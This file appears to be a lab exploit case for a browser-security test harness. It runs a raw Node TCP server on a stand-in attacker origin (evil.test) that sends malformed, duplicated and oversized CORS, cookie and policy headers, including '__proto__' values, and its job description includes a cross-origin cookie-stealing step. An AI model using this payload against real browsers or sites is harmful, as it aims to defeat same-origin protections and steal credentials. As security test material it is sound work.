// exploit: answers what a script of another origin asks with permissions that are lists of thousands, repeated, of other scripts and of line breaks
// kind: lab
// sites: shop.test:3000 evil.test:3001
// outcome: finished
// sees: "status":2
// job: {"browsers":[{"name":"alice"},{"name":"bob","profile":"safari"}],"steps":[{"id":"a","type":"visit","browser":"alice","url":"http://shop.test/"},{"id":"b","type":"fetch","browser":"alice","method":"PUT","url":"http://evil.test/x","credentials":"include","headers":[["X-Own","1"]]},{"id":"c","type":"embed","browser":"alice","url":"http://evil.test/frame","as":"iframe"},{"id":"d","type":"visit","browser":"bob","url":"http://evil.test/"},{"id":"e","type":"fetch","browser":"bob","method":"DELETE","url":"http://shop.test/","credentials":"include"},{"id":"f","type":"steal-cookie","browser":"bob","name":"__proto__","from":"alice"}]}
const many = (name, value) => `${name}: ${Array.from({ length: 150 }, () => value).join(', ')}\r\n`
require('node:net').createServer((socket) => {
  socket.on('error', () => {}).on('data', (bytes) => {
    const method = bytes.toString('latin1').split(' ')[0]
    socket.end(`HTTP/1.1 ${method === 'OPTIONS' ? '204 No' : '200 OK'}\r\nAccess-Control-Allow-Origin: *, null, http://shop.test\r\nAccess-Control-Allow-Origin: http://shop.test\r\nAccess-Control-Allow-Credentials: true\r\nAccess-Control-Allow-Credentials: TRUE\r\n${many('Access-Control-Allow-Methods', 'P\x80UT')}${many('Access-Control-Allow-Headers', '__proto__')}Access-Control-Max-Age: ${'9'.repeat(400)}\r\nReferrer-Policy: ${'unsafe-url,'.repeat(100)}\r\nSet-Cookie: __proto__=1; SameSite=None\r\nContent-Security-Policy: ${'default-src *;'.repeat(100)}\r\nConnection: close\r\n\r\n`, 'latin1')
  })
}).listen(process.env.PORT)
